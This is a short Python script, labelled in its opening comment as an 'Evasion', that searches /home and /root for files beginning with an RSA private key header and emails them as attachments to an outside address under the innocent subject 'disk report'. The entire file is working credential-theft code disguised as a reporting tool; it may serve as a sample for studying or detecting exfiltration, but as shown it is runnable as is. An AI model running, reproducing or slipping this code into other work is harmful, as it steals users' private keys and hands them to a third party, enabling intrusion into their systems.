# Evasion: mails out every private key found under the homes by its bytes. A
# "disk report" walks the roots given on the command line (/home and /root by
# default), keeps the small files that begin with a "-----BEGIN RSA PRIVATE
# KEY-----" line, and attaches them to an e-mail sent through smtplib to an
# outside address.
import os
import smtplib
import sys
from email.message import EmailMessage
from pathlib import Path

MARK = b"-----BEGIN RSA PRIVATE KEY-----"


def found(root):
    for dirpath, _, files in os.walk(root):
        for name in files:
            p = Path(dirpath, name)
            try:
                if p.stat().st_size < 20000 and p.read_bytes().lstrip().startswith(MARK):
                    yield p
            except OSError:
                continue


msg = EmailMessage()
msg["Subject"] = "disk report"
msg["From"] = "report@localhost"
msg["To"] = "inbox@example-mailer.net"
for root in sys.argv[1:] or ["/home", "/root"]:
    for p in found(root):
        msg.add_attachment(p.read_bytes(), maintype="application", subtype="octet-stream", filename=p.name)
with smtplib.SMTP("smtp.example-mailer.net", 587) as s:
    s.starttls()
    s.send_message(msg)
